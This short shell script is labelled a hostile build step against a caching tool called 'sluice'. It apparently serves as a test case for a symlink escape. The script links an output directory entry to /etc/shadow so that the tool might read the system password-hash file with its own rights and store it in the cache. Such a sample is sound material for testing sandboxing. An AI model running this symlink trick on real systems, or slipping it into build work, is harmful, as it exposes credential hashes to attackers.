#!/bin/sh
# A hostile step: declares an output and makes it a symlink to a host file,
# hoping sluice reads it with its own rights and stores it in the cache.
mkdir -p loot
ln -sf /etc/shadow loot/shadow
